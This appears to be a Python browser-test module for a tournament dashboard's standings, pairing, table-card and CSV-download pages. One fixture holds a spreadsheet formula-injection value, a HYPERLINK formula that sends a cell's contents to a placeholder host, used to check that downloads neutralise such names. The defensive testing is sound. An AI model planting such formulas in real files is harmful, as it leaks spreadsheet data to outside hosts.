"""A tournament begun on paper carried on in the dashboard, in a real browser: rounds 1-3 imported as records,
the organiser uploads the players' list on the Standings page, pairs round 4 there and downloads the table
cards; the Pairings page shows every round and its downloads write names a spreadsheet would run as text.
Screenshots at 1,400, 820 and 390 px in test-output/screenshots."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from elsewhere import PLAYERS, players_csv, round_records
from streamlit_server import SCREENSHOTS, chromium, new_page, streamlit_server

pytestmark = pytest.mark.browser
NAME = "Paper Cup"
FORMULAS = "Formula Night"  # a tournament whose players' names a spreadsheet would run
HYPERLINK = '=HYPERLINK("http://x.invalid/?"&A1,"click")'


@pytest.fixture(scope="module")
def paper_data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from service.application import Rollcall
    from projections.projector import Projector

    data = tmp_path_factory.mktemp("paper") / "data"
    store = Rollcall.open(data)
    store.create_tournament(NAME, "t9a")
    for round_no in (1, 2, 3):
        for lines in round_records(NAME, round_no):
            store.import_record(lines)
    header = {**json.loads(round_records(FORMULAS, 1)[0][0]), "game": "formula-r1-t1",
              "players": [{"id": "p1", "name": HYPERLINK, "faction": "orcs"},
                          {"id": "p2", "name": "@Boris", "faction": "+sylvan"}]}
    store.import_record([json.dumps(header), json.dumps({"type": "GameEnded", "score": {"p1": 1, "p2": 3},
                                                         "winner": "p2", "reason": "played on paper"})])
    store.close()
    Projector(data).run()
    return data


@pytest.fixture(scope="module")
def server(paper_data: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    with streamlit_server(paper_data, tmp_path_factory.mktemp("streamlit-paper") / "server.log") as base:
        yield base


def settled(page) -> None:
    page.locator("[data-testid='stMainBlockContainer']").wait_for()
    page.wait_for_function("() => !document.querySelector('[data-testid=\"stStatusWidget\"]')", timeout=20_000)


def downloaded(page, name):
    """The download a tap of button ``name`` starts. The page runs again when the follower publishes what was
    just written, and a tap that lands while the button is drawn again starts nothing: tapped again, as a
    person would."""
    from playwright.sync_api import TimeoutError as NoDownload

    for _ in range(3):
        settled(page)
        try:
            with page.expect_download(timeout=10_000) as download:
                page.get_by_role("button", name=name).click()
            return download.value
        except NoDownload:
            continue
    raise AssertionError(f"tapping {name.pattern if hasattr(name, 'pattern') else name} three times downloaded nothing")


def test_an_organiser_registers_the_list_pairs_round_four_and_prints_the_cards(server: str, tmp_path: Path) -> None:
    listed = tmp_path / "players.csv"
    listed.write_bytes(players_csv())
    with chromium() as browser, new_page(browser) as page:
        page.goto(f"{server}/standings?tournament=Paper+Cup")
        settled(page)
        page.get_by_text("Nobody is registered yet").wait_for()
        page.locator("input[type=file]").set_input_files(str(listed))
        page.get_by_text("players.csv").first.wait_for()
        page.get_by_text("8 new players.").wait_for()  # the list's preview: who, how it was read, what is refused
        page.get_by_text("8 new players.").scroll_into_view_if_needed()
        page.screenshot(path=f"{SCREENSHOTS}/tournament-list-preview.png")
        page.get_by_role("button", name="Register 8 players").click()
        page.get_by_text("registered 8 players").wait_for()
        page.get_by_text("registered 8 players").scroll_into_view_if_needed()
        page.screenshot(path=f"{SCREENSHOTS}/tournament-registered.png")  # the outcome beside the controls
        page.get_by_text("8 players registered").wait_for()  # the follower republished: the page shows them
        assert page.locator(".st-key-pair_round_no input").input_value() == "4"  # (the round box, not the round time's)
        page.get_by_role("button", name="Pair round").click()
        page.get_by_text("round 4 paired: 4 tables").wait_for()
        page.get_by_role("button", name=re.compile("Table cards, round 4")).wait_for()
        download = downloaded(page, re.compile("Table cards, round 4"))
        cards = Path(download.path()).read_text(encoding="utf-8")
        assert download.suggested_filename == "Paper Cup round 4 table cards.html"
        assert re.findall(r'<div class="table">(Table \d)</div>', cards) == [f"Table {t}" for t in (1, 2, 3, 4)]
        assert f'data-url="{server}/record?game=paper-cup-r4-t1"' in cards, "the codes lead to this dashboard"
        assert all(html_name in cards for html_name in ("Élodie Ørsted", "Gül Şahin"))
        page.get_by_role("button", name=re.compile("Table cards, round 4")).scroll_into_view_if_needed()
        page.screenshot(path=f"{SCREENSHOTS}/tournament-round-4-paired.png")

        page.goto(f"{server}/public?tournament=Paper+Cup&round=1")
        settled(page)
        page.get_by_text(PLAYERS[0][0]).first.wait_for(state="attached")  # a cell of the grid (a canvas)
        assert "No round paired yet" not in page.inner_text("body")
        for width in (1400, 820, 390):
            page.set_viewport_size({"width": width, "height": 1000})
            page.wait_for_timeout(800)
            page.screenshot(path=f"{SCREENSHOTS}/tournament-pairings-imported-round-{width}.png", full_page=True)
        page.goto(f"{server}/standings?tournament=Paper+Cup")
        settled(page)
        page.get_by_role("button", name="Pair round").wait_for()
        for width in (1400, 820, 390):
            page.set_viewport_size({"width": width, "height": 1000})
            page.wait_for_timeout(800)
            page.get_by_role("button", name="Pair round").scroll_into_view_if_needed()
            page.screenshot(path=f"{SCREENSHOTS}/tournament-standings-organiser-{width}.png")


def test_the_pairings_pages_downloads_write_formula_names_as_text(server: str) -> None:
    with chromium() as browser, new_page(browser) as page:
        page.goto(f"{server}/public?tournament=Formula+Night")
        settled(page)
        files = {}
        for label in ("Pairings (CSV)", "Standings (CSV)"):
            download = downloaded(page, label)
            files[label] = list(csv.DictReader(io.StringIO(Path(download.path()).read_text(encoding="utf-8"))))
    [table] = files["Pairings (CSV)"]
    assert (table["player"], table["opponent"], table["opponent_faction"]) == ("'" + HYPERLINK, "'@Boris", "'+sylvan")
    assert sorted(r["player"] for r in files["Standings (CSV)"]) == sorted(("'" + HYPERLINK, "'@Boris"))


def test_a_players_list_over_the_limit_gets_one_message_and_registers_nobody(server: str, tmp_path: Path) -> None:
    huge = tmp_path / "huge.csv"
    huge.write_bytes(players_csv() + b"x" * 2_100_000)
    with chromium() as browser, new_page(browser) as page:
        page.goto(f"{server}/standings?tournament=Paper+Cup")
        settled(page)
        page.locator("input[type=file]").set_input_files(str(huge))
        page.get_by_text(re.compile(r"File must be 1(\.0)? ?MB or smaller")).wait_for()
        settled(page)
        page.locator("[data-testid=stFileUploader]").scroll_into_view_if_needed()
        page.screenshot(path=f"{SCREENSHOTS}/tournament-list-over-the-limit.png")
        errors = page.locator("[data-testid=stAlertContentError], [data-testid=stException]")
        assert errors.count() == 0, errors.all_inner_texts()  # the uploader's own message, no second one
        assert page.get_by_role("button", name=re.compile(r"^Register \d+ player")).count() == 0
